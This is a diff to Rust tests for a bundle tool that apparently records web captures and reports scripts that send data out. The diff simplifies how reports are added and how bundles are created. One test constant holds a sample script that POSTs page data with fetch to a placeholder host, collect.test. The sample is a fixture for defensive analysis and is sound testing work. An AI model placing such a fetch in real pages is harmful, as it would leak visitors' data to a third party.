@@ -3,7 +3,7 @@
 
 use std::collections::BTreeMap;
 
-use outflow_bundle::{AnalysisSettings, Bundle, FileProblem, RenderedReports};
+use outflow_bundle::{AnalysisSettings, Bundle, FileProblem};
 
 /// A report of `capture` made by the pipeline from `sources` without
 /// attribution, as `outflow scan --out` makes it.
@@ -61,17 +61,7 @@ fn add_analysed(
     bundle.add_scripts(sources).expect("scripts written");
     let report = report_of(capture, sources);
     bundle
-        .add_capture(
-            name,
-            capture,
-            &RenderedReports {
-                report: &report,
-                html: "<!DOCTYPE html>",
-                sarif: "{}",
-            },
-            AnalysisSettings::default(),
-            "0.1.0",
-        )
+        .add_capture(name, capture, &report, AnalysisSettings::default(), "0.1.0")
         .expect("capture added")
 }
 
@@ -93,7 +83,7 @@ fn add(bundle: &Bundle, name: &str) -> std::path::PathBuf {
 #[test]
 fn one_capture_at_the_top_then_one_folder_each() {
     let dir = tempfile::tempdir().expect("temp dir");
-    let bundle = Bundle::create(dir.path()).expect("bundle");
+    let bundle = Bundle::create(dir.path(), &[]).expect("bundle");
     let first = add(&bundle, "a.test");
     assert_eq!(first, dir.path().join(""));
     assert!(dir.path().join("capture.json").is_file());
@@ -127,7 +117,7 @@ fn one_capture_at_the_top_then_one_folder_each() {
 #[test]
 fn every_disagreement_is_reported() {
     let dir = tempfile::tempdir().expect("temp dir");
-    let bundle = Bundle::create(dir.path()).expect("bundle");
+    let bundle = Bundle::create(dir.path(), &[]).expect("bundle");
     add(&bundle, "a.test");
     let manifest = bundle.manifest().expect("manifest");
     std::fs::write(dir.path().join("report.sarif"), "changed").expect("write");
@@ -163,7 +153,7 @@ fn every_disagreement_is_reported() {
 #[test]
 fn a_manifest_cannot_point_outside_the_bundle() {
     let dir = tempfile::tempdir().expect("temp dir");
-    let bundle = Bundle::create(dir.path()).expect("bundle");
+    let bundle = Bundle::create(dir.path(), &[]).expect("bundle");
     add(&bundle, "a.test");
     let path = dir.path().join("manifest.json");
     let mut manifest: serde_json::Value =
@@ -177,7 +167,7 @@ const SCRIPT: &str = "fetch('https://collect.test/c', {method: 'POST', body: doc
 
 /// A bundle of one capture with one script, analysed.
 fn analysed_bundle(root: &std::path::Path) -> Bundle {
-    let bundle = Bundle::create(root).expect("bundle");
+    let bundle = Bundle::create(root, &[]).expect("bundle");
     let hash = outflow_bundle::sha256_hex(SCRIPT.as_bytes());
     let mut capture = capture("https://a.test/");
     capture.scripts.push(
@@ -253,7 +243,7 @@ fn a_folder_without_a_manifest_cannot_be_verified() {
 #[test]
 fn a_capture_without_a_report_is_written_bare() {
     let dir = tempfile::tempdir().expect("temp dir");
-    let bundle = Bundle::create(dir.path()).expect("bundle");
+    let bundle = Bundle::create(dir.path(), &[]).expect("bundle");
     let sources = BTreeMap::from([(
         outflow_bundle::sha256_hex(b"console.log(1)"),
         "console.log(1)".to_string(),
